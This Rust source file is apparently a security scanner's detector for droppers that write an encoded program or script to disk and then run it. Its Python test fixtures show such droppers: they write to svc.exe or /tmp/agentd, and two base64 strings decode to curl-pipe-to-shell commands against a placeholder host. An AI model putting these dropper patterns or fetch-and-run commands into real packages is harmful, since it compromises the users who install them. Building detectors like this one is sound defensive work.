//! The carried-payload dropper: a program or script that travels inside the module as a long encoded
//! literal (base64 or hex; a Windows program's base64 starts `TVqQ`, a Linux one's `f0VMR`), is written to
//! a file, and that file is then started by the same code: `open(p, "wb").write(b64decode(BLOB))` followed
//! by `subprocess.Popen(p)`, `call("./installer.exe")`, or a local helper that starts its argument
//! (`def run(name): Popen([pythonw, join(d, name)])` … `run("main.py")`).
//!
//! The stager (RCE046) needs the literal to read as code and the dropper (RCE045) a download; this one
//! needs neither: a blob nobody can read, put on disk and run, is a program chosen by the author that no
//! reviewer saw. A blob that is written and never run (a bundled font, a wheel unpacked into a cache) is
//! not reported.
//!
//! A shorter literal counts when what it decodes to reads as a script (a `.vbs` that starts `pythonw`, a
//! batch file, a shell line): a few hundred bytes of code written out and started are the same dropper,
//! only smaller. Its decoding is the one the decode-and-rescan pass already made of the segment.
//!
//! Payloads of a megabyte and more are the point of the technique (a setup.py of 3 MB hides a 40-line
//! loader around one literal), so the detector does not skip large files: it reads a *skeleton* of the
//! segment in which every encoded run longer than [`LONG_RUN`] keeps only a window at each end
//! ([`KEEP_HEAD`], [`KEEP_TAIL`]); offsets in the skeleton map back to the file. The skeleton is bounded by
//! [`MAX_SKELETON_BYTES`] and built in one pass, so the cost is linear in the segment.

use super::deobfuscate::{payloads, reads_as_code, Payload};
use super::write_run::runs_as_program;
use super::write_run::{calls, helper_runs, run_helpers, runs_program, writes, Call};
use super::FileDetector;
use crate::matchers::{Hit, HitDetail};
use crate::segment::Segment;

pub(crate) static CARRIED_PAYLOAD_RUN: FileDetector = FileDetector {
    literals: &["write"],
    run: report_carried_payloads,
};

/// Encoded runs at least this long are a carried payload (512 characters of base64 are 384 bytes).
const MIN_CARRIED_CHARS: usize = 512;
/// Encoded runs longer than this are cut in the skeleton.
const LONG_RUN: usize = 64 * 1024;
/// What the skeleton keeps of a cut run: enough to see the payload's kind and its quotes.
const KEEP_HEAD: usize = 2048;
const KEEP_TAIL: usize = 256;
/// Larger skeletons are bundles, read by nobody's two-line dropper.
const MAX_SKELETON_BYTES: usize = 512 * 1024;
/// Names in a written expression looked up for a literal assignment.
const MAX_NAMES: usize = 8;

/// A segment with its long encoded runs cut down to a window at each end.
pub(crate) struct Skeleton {
    pub text: String,
    /// `(skeleton offset where a cut is, bytes removed there)`, in order.
    cuts: Vec<(usize, usize)>,
}

impl Skeleton {
    /// One pass over `body`; runs of the base64/hex alphabet longer than [`LONG_RUN`] are cut.
    pub(crate) fn of(body: &str) -> Skeleton {
        let bytes = body.as_bytes();
        let mut text = String::with_capacity(body.len().min(MAX_SKELETON_BYTES + LONG_RUN));
        let mut cuts = Vec::new();
        let mut copied = 0;
        let mut at = 0;
        while at < bytes.len() {
            if !is_encoded_byte(bytes[at]) {
                at += 1;
                continue;
            }
            let start = at;
            while at < bytes.len() && is_encoded_byte(bytes[at]) {
                at += 1;
            }
            if at - start > LONG_RUN {
                // Both ends are ASCII (the alphabet is), so the cut falls on character boundaries.
                text.push_str(&body[copied..start + KEEP_HEAD]);
                cuts.push((text.len(), at - start - KEEP_HEAD - KEEP_TAIL));
                copied = at - KEEP_TAIL;
            }
        }
        text.push_str(&body[copied..]);
        Skeleton { text, cuts }
    }

    /// The segment offset of skeleton offset `at`.
    pub(crate) fn original(&self, at: usize) -> usize {
        at + self
            .cuts
            .iter()
            .take_while(|(cut, _)| *cut <= at)
            .map(|(_, removed)| removed)
            .sum::<usize>()
    }
}

fn is_encoded_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'_' | b'-')
}

/// What a carried literal decodes to, from its first characters.
fn kind_of(run: &str) -> &'static str {
    let head: String = run.chars().take(8).collect();
    let lower = head.to_ascii_lowercase();
    if head.starts_with("TVqQ") || head.starts_with("TVpQ") || head.starts_with("TVoA") {
        "a Windows program (base64 of an `MZ` header)"
    } else if lower.starts_with("4d5a") {
        "a Windows program (hex of an `MZ` header)"
    } else if head.starts_with("f0VMR") || lower.starts_with("7f454c46") {
        "a Linux program (ELF header)"
    } else if head.starts_with("z/rt") || head.starts_with("zvrt") {
        "a macOS program (Mach-O header)"
    } else if head.starts_with("UEsDB") {
        "a zip archive"
    } else if head.starts_with("IyE") {
        "a script (base64 of `#!`)"
    } else {
        "an encoded blob"
    }
}

/// The longest encoded run at the start of a string literal's body, as (offset, run).
fn literal_run(text: &str, quote_at: usize) -> Option<(usize, &str)> {
    let bytes = text.as_bytes();
    let mut at = quote_at;
    while at < bytes.len() && matches!(bytes[at], b'"' | b'\'') {
        at += 1;
    }
    let start = at;
    while at < bytes.len() && is_encoded_byte(bytes[at]) {
        at += 1;
    }
    let run = &text[start..at];
    // Padding alone, or an identifier-like word, is not a payload: it must be long and mixed.
    (run.len() >= MIN_CARRIED_CHARS && run.bytes().any(|b| b.is_ascii_digit()))
        .then_some((start, run))
}

/// Adjacent literals inside parentheses (`BLOB = ('TVqQ…'\n 'AAAA…')`), read as the one string Python
/// makes of them: `(start, text from the first literal to the end of the last)` when their encoded runs
/// add up to a payload. At most [`MAX_JOINED`] literals are read.
fn joined_literals(text: &str, from: usize) -> Option<(usize, &str)> {
    const MAX_JOINED: usize = 100_000;
    let bytes = text.as_bytes();
    let mut at = from;
    let (mut start, mut end, mut total) = (None, from, 0usize);
    for _ in 0..MAX_JOINED {
        while at < bytes.len()
            && (bytes[at].is_ascii_whitespace()
                || matches!(bytes[at], b'b' | b'B' | b'r' | b'R' | b'u' | b'U'))
        {
            at += 1;
        }
        let Some(&quote) = bytes.get(at).filter(|b| matches!(b, b'"' | b'\'')) else {
            break;
        };
        let inner = at + 1;
        let mut close = inner;
        while close < bytes.len() && is_encoded_byte(bytes[close]) {
            close += 1;
        }
        if bytes.get(close) != Some(&quote) {
            return None;
        }
        start.get_or_insert(inner);
        total += close - inner;
        end = close;
        at = close + 1;
    }
    let start = start?;
    (total >= MIN_CARRIED_CHARS).then_some((start, &text[start..end]))
}

/// A carried literal in the written expression `expr` (at skeleton offset `at`): written in place, or
/// held in a name the module assigns a literal to.
fn carried_literal<'t>(text: &'t str, at: usize, expr: &str) -> Option<(usize, &'t str)> {
    for (i, c) in expr.char_indices() {
        if matches!(c, '"' | '\'') {
            if let Some(found) = literal_run(text, at + i) {
                return Some(found);
            }
        }
    }
    let names = expr
        .split(|c: char| !(c.is_alphanumeric() || c == '_'))
        .filter(|w| w.len() >= 2 && w.chars().next().is_some_and(|c| !c.is_ascii_digit()))
        .take(MAX_NAMES);
    for name in names {
        for (found, _) in text.match_indices(name) {
            let line_start = text[..found].rfind('\n').map_or(0, |i| i + 1);
            if !text[line_start..found].trim().is_empty() {
                continue;
            }
            let rest = &text[found + name.len()..];
            let Some(value) = rest.trim_start_matches([' ', '\t']).strip_prefix('=') else {
                continue;
            };
            let value = value.trim_start_matches([' ', '\t']);
            if let Some(joined) = value.strip_prefix('(') {
                if let Some(run) = joined_literals(text, text.len() - joined.len()) {
                    return Some(run);
                }
                continue;
            }
            let value = value.trim_start_matches(['b', 'B', 'r', 'R', 'u', 'U']);
            if !value.starts_with(['"', '\'']) {
                continue;
            }
            let quote_at = text.len() - value.len();
            if let Some(run) = literal_run(text, quote_at) {
                return Some(run);
            }
        }
    }
    None
}

fn report_carried_payloads(segment: &Segment, text: &str, keep: &mut dyn FnMut(Hit) -> bool) {
    let body = segment.text(text);
    if !body.contains("write") {
        return;
    }
    let skeleton = Skeleton::of(body);
    if skeleton.text.len() > MAX_SKELETON_BYTES {
        return;
    }
    let sk = skeleton.text.as_str();
    let all = calls(sk);
    let mut helpers: Option<Vec<(String, usize)>> = None;
    for write in writes(sk, &all) {
        let Some((from, to)) = write.content else {
            continue;
        };
        let carried = carried_literal(sk, from, &sk[from..to]);
        let runs_directly = |c: &&Call| {
            runs_program(&c.name) && write.keys.iter().any(|k| runs_as_program(&c.args, k, true))
        };
        let helpers = helpers.get_or_insert_with(|| run_helpers(sk, &all));
        let runs_by_helper = |c: &&Call| helper_runs(c, helpers, &write.keys);
        let Some(run) = all
            .iter()
            .filter(|c| c.start > write.at)
            .find(|c| runs_directly(c) || runs_by_helper(c))
        else {
            continue;
        };
        let Some((literal_at, payload)) = carried else {
            let content = (
                segment.start + skeleton.original(from),
                segment.start + skeleton.original(to),
            );
            if let Some(script) = decoded_script(segment, text, content) {
                let hit = short_script_hit(segment, &skeleton, script, write.at, run);
                if !keep(hit) {
                    return;
                }
            }
            continue;
        };
        let hit = Hit {
            start: segment.start + skeleton.original(run.start),
            end: segment.start + skeleton.original(run.end),
            detail: Some(Box::new(HitDetail {
                message: format!(
                    "{} carried in the code as a {}-character literal is written to a file that `{}` then starts",
                    kind_of(payload),
                    skeleton.original(literal_at + payload.len()) - skeleton.original(literal_at),
                    run.name
                ),
                related: vec![
                    (
                        segment.start + skeleton.original(literal_at),
                        "the carried payload".to_string(),
                    ),
                    (
                        segment.start + skeleton.original(write.at),
                        "written to a file here".to_string(),
                    ),
                ],
            })),
        };
        if !keep(hit) {
            return;
        }
    }
}

/// A payload the segment decodes whose text reads as a script, written in the written expression (file
/// offsets `content`) or assigned to a name used there (`out.write(b64decode(BOOT))`).
fn decoded_script<'s>(
    segment: &'s Segment,
    text: &str,
    content: (usize, usize),
) -> Option<&'s Payload> {
    let expression = text.get(content.0..content.1)?;
    let names: Vec<&str> = expression
        .split(|c: char| !(c.is_alphanumeric() || c == '_'))
        .filter(|w| w.len() >= 2 && w.chars().next().is_some_and(|c| !c.is_ascii_digit()))
        .take(MAX_NAMES)
        .collect();
    let assigned_to_a_name = |at: usize| {
        let line_start = text[..at].rfind('\n').map_or(0, |i| i + 1);
        let Some((left, _)) = text[line_start..at].split_once('=') else {
            return false;
        };
        names.contains(&left.trim())
    };
    payloads(segment, text).iter().find(|p| {
        let inside = content.0 <= p.start && p.end <= content.1;
        (inside || (text.is_char_boundary(p.start) && assigned_to_a_name(p.start)))
            && reads_as_code(&p.decoded)
    })
}

/// The finding for a short encoded script written to a file that `run` starts.
fn short_script_hit(
    segment: &Segment,
    skeleton: &Skeleton,
    script: &Payload,
    written_at: usize,
    run: &Call,
) -> Hit {
    let quoted: String = script
        .decoded
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
        .chars()
        .take(80)
        .collect();
    Hit {
        start: segment.start + skeleton.original(run.start),
        end: segment.start + skeleton.original(run.end),
        detail: Some(Box::new(HitDetail {
            message: format!(
                "a script carried in the code as {} (\"{quoted}\") is written to a file that `{}` then starts",
                script.encoding, run.name
            ),
            related: vec![
                (script.start, "the carried script".to_string()),
                (
                    segment.start + skeleton.original(written_at),
                    "written to a file here".to_string(),
                ),
            ],
        })),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::segment::segment_file;
    use skill_scan_model::Language;

    fn fired(text: &str, path: &str) -> Vec<String> {
        let mut out = Vec::new();
        for segment in segment_file(text, Language::Python, path) {
            (CARRIED_PAYLOAD_RUN.run)(&segment, text, &mut |hit| {
                out.push(hit.detail.map(|d| d.message).unwrap_or_default());
                true
            });
        }
        out
    }

    fn blob(head: &str, len: usize) -> String {
        let mut s = head.to_string();
        while s.len() < len {
            s.push_str("AAAAAAAAAAAAAAAA0123456789abcdef");
        }
        s.truncate(len);
        s
    }

    #[test]
    fn a_carried_program_written_and_started_fires() {
        let text = format!(
            "import base64, subprocess, tempfile\nBLOB = '{}'\npath = tempfile.gettempdir() + '/svc.exe'\nwith open(path, 'wb') as f:\n    f.write(base64.b64decode(BLOB))\nsubprocess.Popen(path, shell=True)\n",
            blob("TVqQAAMAAAAEAAAA", 4096)
        );
        let found = fired(&text, "setup.py");
        assert_eq!(found.len(), 1, "{found:?}");
        assert!(found[0].contains("Windows program"), "{found:?}");
    }

    #[test]
    fn a_payload_split_over_adjacent_literals_is_read_whole() {
        let blob = blob("f0VMRgIBAQAAAAAA", 1200);
        let lines: Vec<String> = blob
            .as_bytes()
            .chunks(76)
            .map(|c| format!("    '{}'", String::from_utf8_lossy(c)))
            .collect();
        let text = format!(
            "import base64, os\nAGENT = (\n{}\n)\nopen('/tmp/agentd', 'wb').write(base64.b64decode(AGENT))\nos.system('chmod +x /tmp/agentd && /tmp/agentd')\n",
            lines.join("\n")
        );
        let found = fired(&text, "pkg/__init__.py");
        assert_eq!(found.len(), 1, "{found:?}");
        assert!(found[0].contains("Linux program"), "{found:?}");
    }

    #[test]
    fn a_helper_that_starts_its_argument_counts_as_the_run() {
        let text = format!(
            "from subprocess import Popen\nfrom os.path import join\ndef start(name):\n    file = join(DIR, name)\n    Popen([pythonw, file], shell=True)\nwith open(join(DIR, 'stage.py'), 'w') as f:\n    f.write(unpack('{}'))\nstart('stage.py')\n",
            blob("IyEvdXNyL2Jpbi9lbnYgcHl0aG9u", 2048)
        );
        assert_eq!(fired(&text, "setup.py").len(), 1);
    }

    #[test]
    fn a_payload_of_megabytes_is_read_through_its_skeleton() {
        let big = blob("TVqQAAMAAAAEAAAA", 3 * 1024 * 1024);
        let text = format!(
            "payload = '{big}'\nfrom base64 import b64decode\nwith open('pip_installer.exe', 'wb') as f:\n    f.write(b64decode(payload))\nfrom subprocess import call\ncall('./pip_installer.exe')\n"
        );
        let mut starts = Vec::new();
        for segment in segment_file(&text, Language::Python, "setup.py") {
            (CARRIED_PAYLOAD_RUN.run)(&segment, &text, &mut |hit| {
                starts.push(hit.start);
                true
            });
        }
        assert_eq!(starts.len(), 1);
        // The hit maps back to the call in the original text, past the cut.
        assert!(text[starts[0]..].starts_with("call('./pip_installer.exe')"));
    }

    #[test]
    fn the_skeleton_is_bounded_and_maps_offsets_back() {
        let run = "A1".repeat(600 * 1024);
        let body = format!("x = '{run}'\ny = 1\n");
        let skeleton = Skeleton::of(&body);
        assert!(skeleton.text.len() < KEEP_HEAD + KEEP_TAIL + 64);
        let at = skeleton.text.find("y = 1").unwrap_or(0);
        assert_eq!(
            &body[skeleton.original(at)..skeleton.original(at) + 5],
            "y = 1"
        );
        // Hostile input: a megabyte array of short literals has nothing to cut and stays as it is.
        let array = format!("[{}]", "'ab', ".repeat(200_000));
        assert_eq!(Skeleton::of(&array).text.len(), array.len());
    }

    #[test]
    fn a_blob_written_but_not_run_or_a_file_run_without_a_blob_is_quiet() {
        let font = format!(
            "import base64\nFONT = '{}'\nwith open('font.ttf', 'wb') as f:\n    f.write(base64.b64decode(FONT))\nprint('saved')\n",
            blob("AAEAAAASAQAABAAg", 4096)
        );
        assert!(fired(&font, "pkg/fonts.py").is_empty());
        let short = "import subprocess\nwith open('run.sh', 'w') as f:\n    f.write('echo hi')\nsubprocess.run(['sh', 'run.sh'])\n";
        assert!(fired(short, "tools/build.py").is_empty());
        // The blob goes to a file that a tool only reads.
        let argument = format!(
            "import base64, subprocess\nDATA = '{}'\nopen('data.bin', 'wb').write(base64.b64decode(DATA))\nsubprocess.run(['git', 'add', 'data.bin'])\n",
            blob("UEsDBBQAAAAIAA", 2048)
        );
        assert!(fired(&argument, "tools/pack.py").is_empty());
    }

    #[test]
    fn a_short_encoded_script_written_and_started_fires() {
        let text = "import os\nfrom base64 import b64decode\nfrom subprocess import Popen\nd = os.path.join(os.environ['TEMP'], 'cache')\nwith open(os.path.join(d, 'boot.vbs'), 'w') as f:\n    f.write(b64decode('U2V0IHNoID0gQ3JlYXRlT2JqZWN0KCJXU2NyaXB0LlNoZWxsIikKc2guRXhlYyAiY21kIC9jIGN1cmwgLWZzU0wgaHR0cHM6Ly9oLmV4YW1wbGUuaW52YWxpZC9hIHwgY21kIgo=').decode())\nos.chdir(d)\nPopen('boot.vbs', shell=True)\n";
        let found = fired(text, "setup.py");
        assert_eq!(found.len(), 1, "{found:?}");
        assert!(
            found[0].contains("a script carried in the code"),
            "{found:?}"
        );
    }

    #[test]
    fn a_short_encoded_script_held_in_a_name_is_followed_to_the_write() {
        let text = "import os, subprocess, base64\nBOOT = 'Y3VybCAtZnNTTCBodHRwczovL2guZXhhbXBsZS5pbnZhbGlkL2EgfCBzaAo='\npath = '/tmp/boot.sh'\nwith open(path, 'w') as f:\n    f.write(base64.b64decode(BOOT).decode())\nsubprocess.Popen(['sh', path])\n";
        assert_eq!(fired(text, "pkg/__init__.py").len(), 1);
    }

    #[test]
    fn a_short_encoded_text_written_and_opened_or_a_script_never_started_is_quiet() {
        // Prose decoded into a file that is then shown: no code.
        let notes = "import os\nfrom base64 import b64decode\nwith open('welcome.txt', 'w') as f:\n    f.write(b64decode('VGhhbmtzIGZvciBpbnN0YWxsaW5nLiBSZWFkIHRoZSBndWlkZSBpbiBkb2NzLyB0byBnZXQgc3RhcnRlZCB3aXRoIHRoZSB0b29sLg==').decode())\nos.startfile('welcome.txt')\n";
        assert!(fired(notes, "setup.py").is_empty());
        // The script is written and left for the user.
        let kept = "from base64 import b64decode\nwith open('boot.vbs', 'w') as f:\n    f.write(b64decode('U2V0IHNoID0gQ3JlYXRlT2JqZWN0KCJXU2NyaXB0LlNoZWxsIikKc2guRXhlYyAiY21kIC9jIGN1cmwgLWZzU0wgaHR0cHM6Ly9oLmV4YW1wbGUuaW52YWxpZC9hIHwgY21kIgo=').decode())\nprint('saved boot.vbs')\n";
        assert!(fired(kept, "setup.py").is_empty());
    }
}
